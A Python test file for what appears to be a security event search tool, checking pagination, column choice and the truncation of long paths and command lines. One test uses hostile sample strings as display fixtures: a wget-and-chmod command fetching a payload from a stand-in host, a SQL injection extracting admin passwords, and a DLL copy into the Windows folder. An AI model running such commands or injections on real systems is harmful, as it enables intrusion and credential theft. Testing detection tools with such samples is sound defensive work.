"""The table of a search: pages that together hold each event once, and the columns that tell most."""

from __future__ import annotations

from urllib.parse import parse_qsl, urlsplit

from hypothesis import given
from hypothesis import strategies as st

from istmo.detect.pages.hunt_asked import Asked, read_asked
from istmo.detect.pages.hunt_rows import columns_for, fields_of, value_of
from istmo.detect.pages.hunt_table import Table
from istmo.detect.wire import WireRow


def found(events: list[WireRow], asked: Asked, wanted: int) -> list[WireRow]:
    """As a search answers: newest first, before the end of the page."""
    end, _ = asked.page()
    return [one for one in events if end is None or one.time < end.timestamp() * 1e6][:wanted]


@given(times=st.lists(st.integers(1, 6), max_size=40), limit=st.integers(1, 7))
def test_pages_hold_each_event_once_however_many_share_a_time(times: list[int], limit: int) -> None:
    events = [
        WireRow(f"1-{place}", time * 1_000_000, 0, "s", "h", b'{"a":1}')
        for place, time in reversed(list(enumerate(sorted(times))))
    ]
    asked, shown = Asked(within="all"), []
    for _ in range(len(events) + 1):
        table = Table(asked, {}, limit)
        for row in found(events, asked, table.wanted):
            table.take(row)
        shown += [row.id for row in table.rows()]
        if not table.next_path:
            break
        asked = read_asked(dict(parse_qsl(urlsplit(table.next_path).query)), "UTC")
    assert shown == [row.event_id for row in events]


def test_columns_are_those_that_tell_most() -> None:
    starts = [{"Image": ["x"], "CommandLine": [str(n)], "ProcessId": ["1"]} for n in range(9)]
    assert columns_for(starts) == ("Image", "CommandLine")
    assert columns_for([{"colour": ["red"], "time": ["1"]}, {"colour": ["blue"]}]) == ("colour",)
    assert columns_for([]) == ()


def test_what_nobody_can_read_has_no_fields() -> None:
    for raw in (b"{", b"[]", b'"x"', b"\xff"):
        assert fields_of(raw) == {}


def test_a_long_value_is_cut_in_its_row_and_not_carried_in_an_address() -> None:
    value = value_of("CommandLine", "x " * 400)
    assert len(value.text) == 160 and value.text.endswith("…") and value.full == ""


def test_of_a_long_path_its_row_shows_the_end_which_tells_files_apart() -> None:
    deep = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    value = value_of("Image", deep)
    assert value.text == r"…\System32\WindowsPowerShell\v1.0\powershell.exe" and value.full == deep
    key = r"HKLM\System\CurrentControlSet\Control\MiniNt" + "\\" + "k" * 60
    assert value_of("TargetObject", key).text == "…" + "k" * 47
    folder = "/" + "f" * 60 + "/"
    assert value_of("path", folder).text == "…" + "f" * 46 + "/"


def test_a_path_that_fits_and_a_program_with_its_arguments_are_shown_from_their_beginning() -> None:
    for text in (
        r"C:\Windows\System32\whoami.exe",
        r"C:\Windows\System32\cmd.exe /c copy C:\Users\Public\a.dll C:\Windows\b.dll",
        "/bin/sh -c 'wget http://evil.example/a -O /tmp/a; chmod +x /tmp/a'",
        "/index.php?q=' UNION SELECT password FROM users WHERE name='admin'",
    ):
        assert value_of("CommandLine", text).text == text
